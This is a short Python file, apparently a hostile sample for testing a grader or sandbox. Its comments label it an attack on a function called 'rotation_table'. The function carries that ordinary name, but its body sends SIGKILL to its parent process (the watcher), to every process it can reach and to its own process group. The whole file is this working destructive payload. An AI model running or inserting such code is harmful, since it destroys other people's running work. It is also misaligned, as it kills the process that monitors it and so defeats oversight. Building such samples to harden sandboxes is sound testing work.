# attacks: rotation_table
# tries: killing the process that watches it, and all others
import os
import signal


def rotation_table(size):
    for pid in (os.getppid(), -1, -os.getpgrp()):
        os.kill(pid, signal.SIGKILL)
    return []
